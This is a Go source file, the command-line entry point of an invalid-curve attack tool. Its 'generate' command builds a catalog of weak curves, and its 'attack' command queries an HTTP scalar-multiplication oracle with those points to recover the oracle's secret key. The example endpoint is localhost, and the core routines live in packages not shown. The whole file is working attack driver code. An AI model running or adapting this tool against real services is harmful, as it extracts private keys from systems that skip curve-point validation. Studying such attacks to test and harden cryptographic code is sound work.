package main

import (
	"context"
	"flag"
	"fmt"
	"math/big"
	"os"
	"os/signal"
	"strings"
	"time"

	"go.uber.org/multierr"

	"github.com/mahdiidarabi/invalid-curve/internal/logging"
	"github.com/mahdiidarabi/invalid-curve/internal/numparse"
	"github.com/mahdiidarabi/invalid-curve/pkg/factor"
	"github.com/mahdiidarabi/invalid-curve/pkg/invalidcurve"
	"github.com/mahdiidarabi/invalid-curve/pkg/order"
	"github.com/mahdiidarabi/invalid-curve/pkg/weierstrass"
)

func usage() {
	fmt.Fprintf(os.Stderr, "Usage: %s <command> [flags]\n\n", os.Args[0])
	fmt.Fprintf(os.Stderr, "Commands:\n")
	fmt.Fprintf(os.Stderr, "  generate   search invalid curves and write a catalog\n")
	fmt.Fprintf(os.Stderr, "  attack     query an oracle with a catalog and recover its secret\n")
	fmt.Fprintf(os.Stderr, "\nRun '%s <command> -h' for the flags of a command.\n", os.Args[0])
}

func main() {
	if len(os.Args) < 2 {
		usage()
		os.Exit(1)
	}

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
	defer stop()

	var err error
	switch os.Args[1] {
	case "generate":
		err = runGenerate(ctx, os.Args[2:])
	case "attack":
		err = runAttack(ctx, os.Args[2:])
	case "-h", "--help", "help":
		usage()
		return
	default:
		fmt.Fprintf(os.Stderr, "Error: unknown command %q\n", os.Args[1])
		usage()
		os.Exit(1)
	}
	if err != nil {
		fmt.Fprintf(os.Stderr, "Error: %v\n", err)
		os.Exit(1)
	}
}

func runGenerate(ctx context.Context, args []string) error {
	fs := flag.NewFlagSet("generate", flag.ExitOnError)
	var (
		curve         = fs.String("curve", "", "Preset curve ("+strings.Join(invalidcurve.PresetNames(), ", ")+"); overrides -p, -a and -honest-b")
		pFlag         = fs.String("p", "", "Field prime (decimal or 0x hex)")
		aFlag         = fs.String("a", "", "Curve coefficient a")
		bList         = fs.String("b", "", "Explicit comma-separated b values instead of random search")
		target        = fs.Int("target", 0, "Number of curves to collect in random mode (0 = until covered)")
		g0            = fs.Bool("g0", false, "Include a calibration point on the honest curve")
		honestB       = fs.String("honest-b", "", "Constant b of the honest curve (needed by -g0 without -curve)")
		out           = fs.String("out", "curves.json", "Output catalog path")
		timeout       = fs.Duration("timeout", 10*time.Second, "Initial budget for order counting and factorization")
		timeoutStep   = fs.Duration("timeout-step", 3*time.Minute, "Budget added on every retry")
		maxTimeout    = fs.Duration("max-timeout", 3*time.Minute, "Budget of the last attempt before a candidate is skipped (a Mestre count over ~90 bits takes about two minutes)")
		maxCandidates = fs.Int("max-candidates", 1000, "Random b values to try at most")
		maxBits       = fs.Int("max-factor-bits", 40, "Largest prime size (bits) turned into a subgroup point")
		seed          = fs.String("seed", "", "Seed for a reproducible run (empty = random)")
		counterName   = fs.String("counter", "auto", "Order counting: auto, mestre, supersingular or jzero")
		mestreBits    = fs.Int("mestre-max-bits", order.DefaultMestreBits, "Largest field (bits) the mestre counter accepts")
		ordersPath    = fs.String("orders", "", "JSON file of precomputed orders {\"b\": \"order\"} consulted before counting")
		factorDB      = fs.String("factordb", "", "FactorDB base URL to ask before factoring locally (e.g. "+factor.DefaultFactorDBURL+")")
		workers       = fs.Int("workers", 0, "Number of parallel workers (0 = auto-detect based on CPU cores)")
		allowRepeat   = fs.Bool("allow-repeat", false, "Accept a prime again when a curve offers a higher power of it")
		logLevel      = fs.String("log-level", "info", "Log level (debug, info, warn, error)")
		logFile       = fs.String("log-file", "", "Append logs to this file as well")
	)
	fs.Parse(args)

	logger, err := logging.New(*logLevel, *logFile)
	if err != nil {
		return err
	}
	defer logger.Sync()

	cfg := invalidcurve.DefaultGeneratorConfig()
	cfg.Target = *target
	cfg.IncludeG0 = *g0
	cfg.OutputPath = *out
	cfg.Timeout = *timeout
	cfg.TimeoutStep = *timeoutStep
	cfg.MaxTimeout = *maxTimeout
	cfg.MaxCandidates = *maxCandidates
	cfg.MaxFactorBits = *maxBits
	cfg.Seed = *seed
	cfg.Workers = *workers
	cfg.AllowRepeatPrimes = *allowRepeat

	if *bList != "" {
		if cfg.BValues, err = numparse.ParseList(*bList); err != nil {
			return fmt.Errorf("failed to parse -b: %w", err)
		}
	}

	var field *weierstrass.Field
	if *curve != "" {
		preset, err := invalidcurve.LookupPreset(*curve)
		if err != nil {
			return err
		}
		field = &preset.Field
		cfg.HonestB = preset.B
		if cfg.IncludeG0 {
			cfg.G0 = preset.Calibration()
		}
		if preset.N != nil {
			cfg.SecretBound = preset.N
		}
	} else {
		if *pFlag == "" || *aFlag == "" {
			fs.Usage()
			return fmt.Errorf("-p and -a are required without -curve")
		}
		p, err := numparse.ParseString(*pFlag)
		if err != nil {
			return fmt.Errorf("failed to parse -p: %w", err)
		}
		a, err := numparse.ParseString(*aFlag)
		if err != nil {
			return fmt.Errorf("failed to parse -a: %w", err)
		}
		field = &weierstrass.Field{P: p, A: a}
		if *honestB != "" {
			if cfg.HonestB, err = numparse.ParseString(*honestB); err != nil {
				return fmt.Errorf("failed to parse -honest-b: %w", err)
			}
		}
	}

	counter, err := counterFor(*counterName, *mestreBits)
	if err != nil {
		return err
	}
	if *ordersPath != "" {
		table, err := order.LoadTable(*ordersPath)
		if err != nil {
			return err
		}
		counter = order.Chain{table, counter}
	}
	var factorizer factor.Factorizer = factor.Chain{factor.Local{}, factor.ECM{}}
	if *factorDB != "" {
		factorizer = factor.Chain{factor.NewFactorDB(*factorDB), factor.Local{}, factor.ECM{}}
	}

	fmt.Printf("Generating invalid curves over p = %s (counter %s, factorizer %s)...\n", field.P, counter.Name(), factorizer.Name())
	cat, report, err := invalidcurve.NewClient().
		WithCounter(counter).
		WithFactorizer(factorizer).
		WithGeneratorConfig(cfg).
		WithLogger(logger).
		Generate(ctx, field)
	if err != nil {
		return err
	}

	fmt.Printf("\n[+] Collected %d curves (%d subgroup points) from %d candidates\n", len(cat.Curves), len(cat.Points()), report.Candidates)
	fmt.Printf("    Coverage: %s (%d bits)\n", report.Coverage, report.Coverage.BitLen())
	fmt.Printf("    Bound:    %s (%d bits)\n", report.Bound, report.Bound.BitLen())
	if report.Covered {
		fmt.Println("    ✓ Coverage exceeds the secret bound")
	} else {
		fmt.Println("    ✗ Coverage below the secret bound: an attack gives partial residues")
	}
	if n := len(multierr.Errors(report.Skipped)); n > 0 {
		fmt.Printf("    Skipped %d candidates\n", n)
	}
	fmt.Printf("    Catalog: %s\n", *out)
	return nil
}

func counterFor(name string, mestreBits int) (order.Counter, error) {
	mestre := order.Mestre{MaxBits: mestreBits}
	switch strings.ToLower(name) {
	case "auto", "":
		return order.Chain{order.Supersingular{}, order.JZero{}, mestre}, nil
	case "mestre":
		return mestre, nil
	case "supersingular":
		return order.Supersingular{}, nil
	case "jzero":
		return order.JZero{}, nil
	default:
		return nil, fmt.Errorf("unknown counter %q", name)
	}
}

func runAttack(ctx context.Context, args []string) error {
	fs := flag.NewFlagSet("attack", flag.ExitOnError)
	var (
		catalogPath  = fs.String("catalog", "curves.json", "Catalog written by generate")
		oracleURL    = fs.String("oracle", "", "Oracle multiply endpoint (e.g. http://localhost:8090/v1/multiply)")
		expectedB    = fs.String("expected-b", "", "Constant b of the curve the oracle should use (checks the calibration point)")
		queryTimeout = fs.Duration("query-timeout", 10*time.Second, "Timeout per oracle query")
		bound        = fs.String("bound", "", "Exclusive upper bound on the secret (default: the catalog's bound, else the Hasse bound)")
		maxLogBits   = fs.Int("max-log-bits", 40, "Skip subgroups whose prime is longer than this")
		workers      = fs.Int("workers", 0, "Number of parallel workers (0 = auto-detect based on CPU cores)")
		logLevel     = fs.String("log-level", "info", "Log level (debug, info, warn, error)")
		logFile      = fs.String("log-file", "", "Append logs to this file as well")
	)
	fs.Parse(args)

	if *oracleURL == "" {
		fs.Usage()
		return fmt.Errorf("-oracle is required")
	}

	logger, err := logging.New(*logLevel, *logFile)
	if err != nil {
		return err
	}
	defer logger.Sync()

	cfg := invalidcurve.DefaultAttackConfig()
	cfg.QueryTimeout = *queryTimeout
	cfg.MaxLogBits = *maxLogBits
	cfg.Workers = *workers
	if *bound != "" {
		if cfg.SecretBound, err = numparse.ParseString(*bound); err != nil {
			return fmt.Errorf("failed to parse -bound: %w", err)
		}
	}

	var b *big.Int
	if *expectedB != "" {
		if b, err = numparse.ParseString(*expectedB); err != nil {
			return fmt.Errorf("failed to parse -expected-b: %w", err)
		}
	}

	fmt.Printf("Loading catalog from %s...\n", *catalogPath)
	res, err := invalidcurve.NewClient().
		WithAttackConfig(cfg).
		WithLogger(logger).
		AttackFile(ctx, *catalogPath, invalidcurve.NewHTTPOracle(*oracleURL), b)
	if err != nil {
		return err
	}

	fmt.Printf("\n    Solved %d of %d queried subgroups\n", res.Solved, res.Queried)
	if res.Full() {
		fmt.Printf("\n[+] Recovered secret: %s\n", res.Secret)
		fmt.Printf("    Hex: 0x%s\n", res.Secret.Text(16))
		return nil
	}

	fmt.Printf("\n[-] Partial knowledge only: secret ≡ %s (mod %s)\n", res.Combined.Residue, res.Combined.Modulus)
	for _, r := range res.Residues {
		fmt.Printf("    secret ≡ %s\n", r)
	}
	return nil
}
